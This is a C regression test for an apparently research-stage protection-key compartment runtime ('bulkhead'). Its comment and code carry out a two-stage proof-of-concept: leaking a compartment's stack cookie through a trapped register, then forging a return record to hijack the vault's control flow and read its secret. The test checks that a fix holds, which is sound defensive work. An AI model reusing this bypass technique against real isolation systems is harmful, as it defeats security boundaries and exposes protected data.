// Review (attackB): the stack cookie leaks through the ud2 of a failed
// check. __bulkhead_return_to_index (and the static trampolines' way back)
// load compartment i's cookie into rcx and compare it with the record; on a
// mismatch they execute ud2 with the cookie still in rcx. The SIGILL's
// frame (the runtime's dispatcher runs every handler on a key-0 stack)
// hands rcx to a handler of the default domain.
//
// Stage 1 (in a forked child, so the parent keeps going): while the vault is
// called out to the default domain, the default domain -- controlling its
// program counter -- jumps to __bulkhead_return_to_index with rdi = 0 and
// r11 pointing at an unused, zeroed word deep in the vault's stack. The gate
// into the vault passes, "record holds i" passes (0), the cookie compare
// fails: ud2, rcx = the vault's cookie, read by the SIGILL handler.
//
// Stage 2: with the cookie, a request the vault copies onto its own stack
// is a valid record {0, cookie, slot, r15..rbx, return address}: the
// default domain points r11 at it, the way back accepts it and returns
// through the request into code of the attacker's choice, with the vault's
// rights. The cookie was added (second review, attacks-any-return.c) to
// stop exactly this.
//
// Contradicts docs/threat-model.md: "pointing it at any other word of the
// compartment's stack, such as data it copied from its input, traps instead
// of returning through that data with the compartment's rights", and the
// cookie's "readable only by the compartment".
// Fixed: the ways back clear the scratch registers before their ud2. Before:
// stage 1 printed the cookie, stage 2 the secret (exit 7).
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t
// RUN: %run %t | FileCheck %s
// CHECK-NOT: vault-secret
// CHECK: attacks-review-pc-cookie-leak: ok
#include "Inputs/check.h"
#include <setjmp.h>
#include <sys/mman.h>
#include <ucontext.h>

BULKHEAD_DATA(vault) static char secret[32] = "vault-secret-93be\n";

BULKHEAD_INTERNAL(vault) __attribute__((noinline, used)) void vault_leak(void) {
  write(1, secret, 18);
  _exit(7);
}

void app_log(const char *msg);

/* The vault copies a request onto its stack and logs it through the
 * default domain. */
BULKHEAD_ENTRY(vault) int vault_handle(const char *req) {
  char buf[96];
  for (int k = 0; k < 96; k++)
    buf[k] = req[k];
  app_log(buf);
  return buf[0];
}

static int stage;
static volatile uint64_t *shared; /* MAP_SHARED: the child's cookie */

static void on_ill(int sig, siginfo_t *si, void *uc) {
  (void)sig, (void)si;
  shared[0] = (uint64_t)((ucontext_t *)uc)->uc_mcontext.gregs[REG_RCX];
  shared[1] = 1;
  _exit(0);
}

/* Default domain, attacker-controlled: called by the static trampoline
 * out of the vault, which left the vault's stack pointer 32 bytes above
 * our return address; the vault's buffer starts 64 bytes above that. */
__attribute__((noinline)) void app_log(const char *msg) {
  (void)msg;
  uintptr_t *fp = __builtin_frame_address(0);
  uintptr_t vault_sp = fp[1 + 4];
  uintptr_t r11 = stage == 1 ? (vault_sp - 0x8000) & ~(uintptr_t)15 /* unused: 0 */
                             : vault_sp + 64; /* buf */
  __asm__ volatile("xorl %%edi, %%edi\n\t"
                   "movq %0, %%r11\n\t"
                   "xorl %%r10d, %%r10d\n\t"
                   "xorl %%r8d, %%r8d\n\t"
                   "jmp __bulkhead_return_to_index\n"
                   :
                   : "r"(r11)
                   : "memory");
  __builtin_unreachable();
}

int main(void) {
  shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  CHECK(shared != MAP_FAILED);
  char req[96] = {0};
  fflush(stdout);
  pid_t pid = fork();
  if (pid == 0) {
    struct sigaction sa = {0};
    sa.sa_sigaction = on_ill;
    sa.sa_flags = SA_SIGINFO;
    sigaction(SIGILL, &sa, NULL);
    stage = 1;
    vault_handle(req);
    _exit(2);
  }
  int status;
  waitpid(pid, &status, 0);
  CHECK(shared[1] == 1);
  uint64_t cookie = shared[0];
  printf("stage 1: the vault's cookie is %#llx\n", (unsigned long long)cookie);
  fflush(stdout);

  uintptr_t leak;
  __asm__("leaq vault_leak(%%rip), %0" : "=r"(leak)); /* from the binary's layout */
  uint64_t rec[10] = {0 /* i */, cookie, 0 /* old slot */, 0, 0, 0, 0, 0, 0, leak};
  memcpy(req, rec, sizeof rec);
  stage = 2;
  pid = fork();
  if (pid == 0) {
    int r = vault_handle(req);
    printf("vault_handle: %d\n", r);
    _exit(0);
  }
  waitpid(pid, &status, 0);
  /* Fixed: nothing of the cookie reaches the handler, and a forged record
   * is refused (SIGILL), not returned through. */
  CHECK(cookie == 0);
  CHECK(WIFSIGNALED(status) && WTERMSIG(status) == SIGILL);
  puts("attacks-review-pc-cookie-leak: ok");
  return 0;
}
